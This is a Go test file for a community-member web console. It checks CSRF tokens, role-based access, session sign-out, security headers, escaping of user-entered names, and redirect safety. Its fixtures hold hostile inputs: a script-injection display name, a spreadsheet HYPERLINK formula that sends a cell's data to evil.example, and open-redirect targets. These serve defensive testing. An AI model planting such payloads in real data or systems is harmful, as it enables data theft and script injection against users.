package pages

import (
	"context"
	"errors"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"connectrpc.com/connect"
	"go.opentelemetry.io/otel/trace/noop"
	"google.golang.org/genproto/googleapis/rpc/errdetails"

	"github.com/kinshiphq/kinship/console/apis"
	"github.com/kinshiphq/kinship/console/session"
	membersv1 "github.com/kinshiphq/kinship/gen/kinship/members/v1"
	"github.com/kinshiphq/kinship/gen/kinship/members/v1/membersv1connect"
)

// fakeMembers is the members API as far as these tests need it; it
// remembers the bearer tokens it was called with.
type fakeMembers struct {
	membersv1connect.UnimplementedMembersServiceHandler
	mu     sync.Mutex
	tokens []string
	joins  int
	// queries are the search queries ListMembers was given.
	queries []string
}

const hostileName = `<script>alert(1)</script>`
const formulaName = `=HYPERLINK("http://evil.example/?"&A2,"open")`

func (f *fakeMembers) saw(h http.Header) {
	f.mu.Lock()
	f.tokens = append(f.tokens, strings.TrimPrefix(h.Get("Authorization"), "Bearer "))
	f.mu.Unlock()
}

func (f *fakeMembers) GetMember(_ context.Context, req *connect.Request[membersv1.GetMemberRequest]) (*connect.Response[membersv1.GetMemberResponse], error) {
	f.saw(req.Header())
	if req.Msg.GetCommunity() != "demo" {
		return nil, connect.NewError(connect.CodePermissionDenied, errors.New("other community"))
	}
	name := hostileName
	if req.Msg.GetId() == "formula" {
		name = formulaName
	}
	return connect.NewResponse(&membersv1.GetMemberResponse{Member: &membersv1.Member{Id: req.Msg.GetId(), Community: "demo",
		DisplayName: name, Email: "x@example.org", Status: membersv1.MemberStatus_MEMBER_STATUS_ACTIVE,
		Profile: &membersv1.Profile{DisplayName: name, Motivation: hostileName}}}), nil
}

func (f *fakeMembers) ListMembers(_ context.Context, req *connect.Request[membersv1.ListMembersRequest]) (*connect.Response[membersv1.ListMembersResponse], error) {
	f.saw(req.Header())
	if q := req.Msg.GetQuery(); q != "" {
		f.mu.Lock()
		f.queries = append(f.queries, q)
		f.mu.Unlock()
		if len(q) > 100 {
			cerr := connect.NewError(connect.CodeInvalidArgument, errors.New("query: must be at most 100 characters"))
			d, _ := connect.NewErrorDetail(&errdetails.BadRequest{FieldViolations: []*errdetails.BadRequest_FieldViolation{{Field: "query", Description: "must be at most 100 characters"}}})
			cerr.AddDetail(d)
			return nil, cerr
		}
		return connect.NewResponse(&membersv1.ListMembersResponse{Members: []*membersv1.Member{
			{Id: "m-found", DisplayName: "Ada Lovelace", Email: "ada@example.org"}}, NextPageToken: "next"}), nil
	}
	return connect.NewResponse(&membersv1.ListMembersResponse{Members: []*membersv1.Member{
		{Id: "m-1", DisplayName: hostileName, Email: formulaName}}, NextPageToken: "next"}), nil
}

// JoinCommunity refuses the address "bad" naming the email field, as the
// real API does for a malformed address.
func (f *fakeMembers) JoinCommunity(_ context.Context, req *connect.Request[membersv1.JoinCommunityRequest]) (*connect.Response[membersv1.JoinCommunityResponse], error) {
	f.saw(req.Header())
	f.mu.Lock()
	f.joins++
	f.mu.Unlock()
	if req.Msg.GetEmail() == "bad" {
		cerr := connect.NewError(connect.CodeInvalidArgument, errors.New("email: is not an e-mail address"))
		d, _ := connect.NewErrorDetail(&errdetails.BadRequest{FieldViolations: []*errdetails.BadRequest_FieldViolation{{Field: "email", Description: "is not an e-mail address"}}})
		cerr.AddDetail(d)
		return nil, cerr
	}
	return connect.NewResponse(&membersv1.JoinCommunityResponse{Member: &membersv1.Member{Id: "new-1"}}), nil
}

type testRig struct {
	srv     *httptest.Server
	store   *session.Store
	members *fakeMembers
}

func newRig(t *testing.T) *testRig { t.Helper(); return newRigWith(t, nil) }

// newRigWith is newRig with more fake APIs, added to the APIs' mux by
// more.
func newRigWith(t *testing.T, more func(*http.ServeMux)) *testRig {
	t.Helper()
	fm := &fakeMembers{}
	mux := http.NewServeMux()
	mux.Handle(membersv1connect.NewMembersServiceHandler(fm))
	if more != nil {
		more(mux)
	}
	api := httptest.NewServer(mux)
	t.Cleanup(api.Close)
	store, err := session.New(session.Options{})
	if err != nil {
		t.Fatal(err)
	}
	logger := slog.New(slog.NewTextHandler(io.Discard, nil))
	s, err := New(Options{Community: "demo", PublicURL: "https://console.example", Logger: logger}, store, nil,
		apis.New(apis.URLs{Members: api.URL, Events: api.URL, Communications: api.URL, Partners: api.URL, Journeys: api.URL}, noop.NewTracerProvider()))
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(s.Handler())
	t.Cleanup(srv.Close)
	return &testRig{srv: srv, store: store, members: fm}
}

// signIn makes a session for a person with roles, as the callback would.
func (r *testRig) signIn(t *testing.T, roles ...string) (*http.Cookie, session.Session) {
	t.Helper()
	id, ss, err := r.store.Create(session.Session{Subject: "sub-" + strings.Join(roles, "-"), Name: "Test", Community: "demo",
		Roles: roles, MemberID: "me-1", AccessToken: "token-of-" + strings.Join(roles, "-")}, time.Now().Add(time.Hour))
	if err != nil {
		t.Fatal(err)
	}
	return &http.Cookie{Name: hostSessionCookie, Value: id}, ss
}

var noFollow = &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}

func (r *testRig) do(t *testing.T, method, path string, cookie *http.Cookie, form url.Values, header map[string]string) (*http.Response, string) {
	t.Helper()
	var body io.Reader
	if form != nil {
		body = strings.NewReader(form.Encode())
	}
	req, _ := http.NewRequest(method, r.srv.URL+path, body)
	if form != nil {
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	}
	for k, v := range header {
		req.Header.Set(k, v)
	}
	if cookie != nil {
		req.AddCookie(cookie)
	}
	res, err := noFollow.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	raw, _ := io.ReadAll(res.Body)
	return res, string(raw)
}

func TestEveryChangeNeedsTheSessionsCSRFToken(t *testing.T) {
	r := newRig(t)
	cookie, ss := r.signIn(t, "organiser")
	_, otherSS := r.signIn(t, "staff")
	good := url.Values{"display_name": {"Ada"}, "email": {"ada@example.org"}}
	tests := []struct {
		name   string
		form   url.Values
		header map[string]string
		want   int
	}{
		{"no token", good, nil, http.StatusForbidden},
		{"a wrong token", withCSRF(good, "forged"), nil, http.StatusForbidden},
		{"another session's token", withCSRF(good, otherSS.CSRF), nil, http.StatusForbidden},
		{"the right token from another site", withCSRF(good, ss.CSRF), map[string]string{"Sec-Fetch-Site": "cross-site"}, http.StatusForbidden},
		{"the right token with another Origin", withCSRF(good, ss.CSRF), map[string]string{"Origin": "https://evil.example"}, http.StatusForbidden},
		{"the right token in the form", withCSRF(good, ss.CSRF), map[string]string{"Origin": "https://console.example"}, http.StatusSeeOther},
		{"the right token in htmx's header", good, map[string]string{"X-CSRF-Token": ss.CSRF}, http.StatusSeeOther},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			before := r.members.joins
			res, _ := r.do(t, http.MethodPost, "/members/new", cookie, tt.form, tt.header)
			if res.StatusCode != tt.want {
				t.Fatalf("status %d, want %d", res.StatusCode, tt.want)
			}
			if called := r.members.joins > before; called != (tt.want == http.StatusSeeOther) {
				t.Fatalf("the API was called: %v", called)
			}
		})
	}
}

func withCSRF(v url.Values, token string) url.Values {
	out := cloneValues(v)
	out.Set(csrfField, token)
	return out
}

func TestPagesFollowTheRolesInTheToken(t *testing.T) {
	r := newRig(t)
	pages := []struct {
		path    string
		allowed []string
	}{
		{"/members", []string{"organiser", "staff", "platform-admin"}},
		{"/members/m-1", []string{"organiser", "staff", "platform-admin"}},
		{"/members/import", []string{"organiser", "platform-admin"}},
		{"/settings", []string{"organiser", "platform-admin"}},
		{"/audit", []string{"organiser", "platform-admin"}},
		{"/events", []string{"organiser", "staff", "platform-admin"}},
		{"/communications/webhooks", []string{"organiser", "platform-admin"}},
		{"/partners", []string{"organiser", "staff", "platform-admin"}},
		{"/journeys/start", []string{"organiser", "platform-admin"}},
	}
	for _, role := range []string{"member", "ambassador", "staff", "organiser", "platform-admin"} {
		cookie, _ := r.signIn(t, role)
		for _, p := range pages {
			t.Run(role+" "+p.path, func(t *testing.T) {
				res, _ := r.do(t, http.MethodGet, p.path, cookie, nil, nil)
				opens := res.StatusCode != http.StatusForbidden
				if want := contains(p.allowed, role); opens != want {
					t.Fatalf("%s opens %s: %v (status %d), want %v", role, p.path, opens, res.StatusCode, want)
				}
			})
		}
	}
}

func contains(list []string, v string) bool {
	for _, x := range list {
		if x == v {
			return true
		}
	}
	return false
}

func TestTheConsoleCallsWithThePersonsOwnToken(t *testing.T) {
	r := newRig(t)
	cookie, ss := r.signIn(t, "staff")
	if res, _ := r.do(t, http.MethodGet, "/members/m-1", cookie, nil, nil); res.StatusCode != http.StatusOK {
		t.Fatalf("status %d", res.StatusCode)
	}
	r.members.mu.Lock()
	defer r.members.mu.Unlock()
	if len(r.members.tokens) == 0 {
		t.Fatal("no API call")
	}
	for _, tok := range r.members.tokens {
		if tok != ss.AccessToken {
			t.Fatalf("an API call carried %q, not the person's token", tok)
		}
	}
}

func TestUserTypedTextIsNeverRenderedAsMarkup(t *testing.T) {
	r := newRig(t)
	cookie, _ := r.signIn(t, "organiser")
	for _, path := range []string{"/members", "/members/m-1", "/members/formula"} {
		t.Run(path, func(t *testing.T) {
			res, page := r.do(t, http.MethodGet, path, cookie, nil, nil)
			if res.StatusCode != http.StatusOK {
				t.Fatalf("status %d", res.StatusCode)
			}
			if strings.Contains(page, "<script>alert") {
				t.Fatal("a display name was rendered as a script element")
			}
			if path != "/members/formula" && !strings.Contains(page, "&lt;script&gt;alert(1)&lt;/script&gt;") {
				t.Fatal("the display name is not shown (escaped)")
			}
			if path == "/members/formula" && !strings.Contains(page, "=HYPERLINK(&#34;http://evil.example/?&#34;&amp;A2,&#34;open&#34;)") {
				t.Fatal("the formula is not shown as text")
			}
		})
	}
}

func TestAFieldErrorShowsNextToItsFieldAndKeepsTheInput(t *testing.T) {
	r := newRig(t)
	cookie, ss := r.signIn(t, "organiser")
	form := url.Values{csrfField: {ss.CSRF}, "display_name": {"Ada <Lovelace>"}, "email": {"bad"}, "city": {"Köln"}}
	res, page := r.do(t, http.MethodPost, "/members/new", cookie, form, nil)
	if res.StatusCode != http.StatusBadRequest {
		t.Fatalf("status %d", res.StatusCode)
	}
	for _, want := range []string{
		`<span class="field-error" id="e-email">is not an e-mail address</span>`,
		`aria-invalid="true"`,
		`value="Ada &lt;Lovelace&gt;"`,
		`value="Köln"`,
		`<a href="#f-email">email: is not an e-mail address</a>`,
	} {
		if !strings.Contains(page, want) {
			t.Errorf("the page lacks %s", want)
		}
	}
}

func TestWithoutASessionPagesSendToSignIn(t *testing.T) {
	r := newRig(t)
	res, _ := r.do(t, http.MethodGet, "/members?statuses=active", nil, nil, nil)
	if res.StatusCode != http.StatusSeeOther || res.Header.Get("Location") != "/signin?return="+url.QueryEscape("/members?statuses=active") {
		t.Fatalf("got %d to %q", res.StatusCode, res.Header.Get("Location"))
	}
	res, _ = r.do(t, http.MethodPost, "/members/new", nil, url.Values{"email": {"a@b.c"}}, nil)
	if res.StatusCode != http.StatusUnauthorized || r.members.joins != 0 {
		t.Fatalf("a post without a session: %d, joins %d", res.StatusCode, r.members.joins)
	}
	cookie := &http.Cookie{Name: hostSessionCookie, Value: session.Random()}
	if res, _ := r.do(t, http.MethodGet, "/members", cookie, nil, nil); res.StatusCode != http.StatusSeeOther {
		t.Fatalf("a made-up session id opened a page: %d", res.StatusCode)
	}
}

func TestSignOutEndsTheSessionEverywhere(t *testing.T) {
	r := newRig(t)
	cookie, ss := r.signIn(t, "organiser")
	res, _ := r.do(t, http.MethodPost, "/signout", cookie, url.Values{csrfField: {ss.CSRF}}, nil)
	if res.StatusCode != http.StatusSeeOther {
		t.Fatalf("sign-out: %d", res.StatusCode)
	}
	if res, _ := r.do(t, http.MethodGet, "/members", cookie, nil, nil); res.StatusCode != http.StatusSeeOther {
		t.Fatalf("the old cookie still opens pages: %d", res.StatusCode)
	}
}

func TestEveryAnswerCarriesTheSecurityHeaders(t *testing.T) {
	r := newRig(t)
	cookie, _ := r.signIn(t, "organiser")
	res, _ := r.do(t, http.MethodGet, "/members", cookie, nil, nil)
	for h, want := range map[string]string{
		"Content-Security-Policy": "script-src 'self';",
		"X-Frame-Options":         "DENY",
		"X-Content-Type-Options":  "nosniff",
		"Cache-Control":           "no-store",
	} {
		if !strings.Contains(res.Header.Get(h), want) {
			t.Errorf("%s = %q, want it to contain %q", h, res.Header.Get(h), want)
		}
	}
	if strings.Contains(res.Header.Get("Content-Security-Policy"), "unsafe-inline") {
		t.Error("the CSP allows inline code")
	}
}

func TestAssetsAreServedWithLongCachingUnderTheirHash(t *testing.T) {
	r := newRig(t)
	res, page := r.do(t, http.MethodGet, "/signed-out", nil, nil, nil)
	if res.StatusCode != http.StatusOK {
		t.Fatalf("status %d", res.StatusCode)
	}
	i := strings.Index(page, "/assets/htmx.min.js?v=")
	if i < 0 {
		t.Fatal("the page names no hashed htmx URL")
	}
	u := page[i : i+strings.Index(page[i:], `"`)]
	res, _ = r.do(t, http.MethodGet, u, nil, nil, nil)
	if res.StatusCode != http.StatusOK || !strings.Contains(res.Header.Get("Cache-Control"), "immutable") {
		t.Fatalf("%s: %d %q", u, res.StatusCode, res.Header.Get("Cache-Control"))
	}
}

func TestReturnAddressesStayInsideTheConsole(t *testing.T) {
	for in, want := range map[string]string{
		"/members?x=1":          "/members?x=1",
		"":                      "/",
		"https://evil.example/": "/",
		"//evil.example/":       "/",
		"/\\evil.example":       "/",
		"javascript:alert(1)":   "/",
	} {
		if got := safeReturn(in); got != want {
			t.Errorf("safeReturn(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestMemberSearchListsWhatTheAPIFindsAndKeepsTheQuery(t *testing.T) {
	r := newRig(t)
	cookie, _ := r.signIn(t, "organiser")
	t.Run("results, paged with the query", func(t *testing.T) {
		res, page := r.do(t, http.MethodGet, "/members?q="+url.QueryEscape("ada <b>"), cookie, nil, nil)
		if res.StatusCode != http.StatusOK {
			t.Fatalf("status %d", res.StatusCode)
		}
		for _, want := range []string{
			`<label for="f-q">Find a member`,
			`<input id="f-q" name="q" type="search" value="ada &lt;b&gt;"`,
			`<a href="/members/m-found">Ada Lovelace</a>`,
			`starts with “ada &lt;b&gt;”`,
			`href="/members?page=next&amp;q=ada&#43;%3Cb%3E"`,
		} {
			if !strings.Contains(page, want) {
				t.Errorf("the page lacks %s", want)
			}
		}
		if strings.Contains(page, "Export these members") {
			t.Error("search results offer the export of everyone")
		}
		r.members.mu.Lock()
		defer r.members.mu.Unlock()
		if !slices.Equal(r.members.queries, []string{"ada <b>"}) {
			t.Errorf("the API was asked %q", r.members.queries)
		}
	})
	t.Run("the API's refusal shows next to the search box", func(t *testing.T) {
		long := strings.Repeat("a", 101)
		res, page := r.do(t, http.MethodGet, "/members?q="+long, cookie, nil, nil)
		if res.StatusCode != http.StatusBadRequest {
			t.Fatalf("status %d", res.StatusCode)
		}
		for _, want := range []string{
			`<span class="field-error" id="e-q">must be at most 100 characters</span>`,
			`value="` + long + `"`,
			`<a href="#f-q">`,
		} {
			if !strings.Contains(page, want) {
				t.Errorf("the page lacks %s", want)
			}
		}
	})
}
